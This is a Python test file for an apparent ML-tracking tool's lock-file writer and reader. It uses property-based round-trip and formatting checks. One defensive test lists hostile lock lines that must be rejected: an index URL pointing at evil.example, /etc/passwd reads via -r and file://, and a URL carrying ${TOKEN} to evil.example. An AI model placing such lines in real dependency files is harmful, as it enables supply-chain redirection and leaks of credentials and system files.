from __future__ import annotations

import os
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mltrack.environments.python.distributions import NAME, VERSION, Distribution
from mltrack.environments.python.lock import Lock, read_lock, write_lock
from mltrack.errors import Damaged

COUNT = 60 * int(os.environ.get("MLTRACK_SOAK", "1"))
SHA = "a" * 64

names = st.from_regex(NAME, fullmatch=True)
versions = st.from_regex(VERSION, fullmatch=True)
hashes = st.one_of(st.none(), st.from_regex(r"[0-9a-f]{64}", fullmatch=True))
parts = st.text(st.characters(exclude_characters="/\0", codec="utf-8"), min_size=1).filter(
    lambda text: text not in (".", "..")
)
places = st.one_of(st.just("."), st.lists(parts, min_size=1, max_size=3).map("/".join))
urls = st.from_regex(r"https://[a-z]{1,9}/[A-Za-z0-9._~%@!,;=+-]{1,20}", fullmatch=True)
below = st.sampled_from(["", "#subdirectory=a/b"])

distributions = st.one_of(
    st.builds(Distribution, names, versions, st.sampled_from(["index", "outside", "path", "system", "conda"])),
    st.builds(lambda n, v, u, b, s: Distribution(n, v, "url", u + b, s), names, versions, urls, below, hashes),
    st.builds(lambda n, v, u, b: Distribution(n, v, "vcs", f"git+{u}@c0ffee{b}"), names, versions, urls, below),
    st.builds(lambda n, v, p, s: Distribution(n, v, "file", p, s), names, versions, parts, hashes),
    st.builds(lambda n, p, e: Distribution(n, "", "project", None, None, p, e), names, places, st.booleans()),
)
unique = st.lists(distributions, unique_by=lambda found: found.name, max_size=8)


@given(unique)
@settings(max_examples=COUNT, deadline=None)
def test_what_was_written_is_read(found: list[Distribution]) -> None:
    lock = Lock("3.11.7", "cpython", tuple(sorted(found, key=lambda entry: entry.name)))
    assert read_lock(write_lock(lock)) == lock


@given(unique, st.randoms())
@settings(max_examples=COUNT, deadline=None)
def test_the_order_does_not_matter(found: list[Distribution], random: object) -> None:
    shuffled = list(found)
    random.shuffle(shuffled)  # type: ignore[attr-defined]
    assert write_lock(Lock("3.11.7", "cpython", tuple(found))) == write_lock(Lock("3.11.7", "cpython", tuple(shuffled)))


def test_the_text_is_one_that_people_and_installers_read() -> None:
    found = (
        Distribution("zeta", "1.0", "index"),
        Distribution("beta", "2.0+cpu", "file", "beta 2.whl", SHA),
        Distribution("proj", "0.1.dev3", "project", None, None, ".", True),
        Distribution("sub", "0.1", "project", None, None, "a b/sub"),
        Distribution("net", "1", "url", "https://h/n.zip#subdirectory=s", SHA),
        Distribution("repo", "1", "vcs", "git+https://h/r@c0ffee"),
        Distribution("apt", "2.6.0", "system"),
    )
    assert write_lock(Lock("3.14.0rc2", "cpython+freethreaded", found)).decode().splitlines() == [
        "# mltrack lock 1",
        "# python 3.14.0rc2 cpython+freethreaded",
        "# Rebuild with: PROJECT_ROOT=DIRECTORY uv pip install --no-deps -r THIS_FILE",
        "# from the operating system: apt==2.6.0",
        f"beta==2.0+cpu  # from the local file beta%202.whl sha256={SHA}",
        f"net @ https://h/n.zip#subdirectory=s&sha256={SHA}  # 1",
        "-e ${PROJECT_ROOT}  # proj",
        "repo @ git+https://h/r@c0ffee  # 1",
        "sub @ file://${PROJECT_ROOT}/a%20b/sub",
        "zeta==1.0",
    ]


def test_a_projects_own_version_does_not_change_the_lock() -> None:
    found = Distribution("proj", "0.1.dev3", "project", None, None, ".", True)
    later = replace(found, version="0.1.dev4")
    assert write_lock(Lock("3.11.7", "cpython", (found,))) == write_lock(Lock("3.11.7", "cpython", (later,)))


HEAD = "# mltrack lock 1\n# python 3.11.7 cpython\n"


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "-r /etc/passwd",
        "-e /somewhere  # x",
        "-e ${HOME}/x  # x",
        "alpha==1.0 --index-url https://evil.example",
        "alpha @ file:///etc/passwd",
        "alpha @ https://evil.example/${TOKEN}  # 1",
        "alpha @ git+file:///repo@c0ffee  # 1",
        "alpha",
        "alpha>=1",
        "Alpha==1.0",
        "alpha==1.0; python_version > '3'",
        "alpha==1.0\\",
        "# a comment",
    ],
)
def test_a_lock_from_elsewhere_may_hold_nothing_else(line: str) -> None:
    with pytest.raises(Damaged):
        read_lock(f"{HEAD}{line}\n".encode())


@pytest.mark.parametrize(
    "text", [b"", b"alpha==1.0\n", b"# mltrack lock 2\n# python 3.11.7 cpython\n", b"\xff\xfe", b"# mltrack lock 1\n"]
)
def test_a_text_that_is_no_lock_is_refused(text: bytes) -> None:
    with pytest.raises(Damaged):
        read_lock(text)


@given(st.binary(max_size=200))
@settings(max_examples=COUNT, deadline=None)
def test_random_bytes_are_refused_in_good_order(text: bytes) -> None:
    with pytest.raises(Damaged):
        read_lock(HEAD.encode() + b"!" + text)
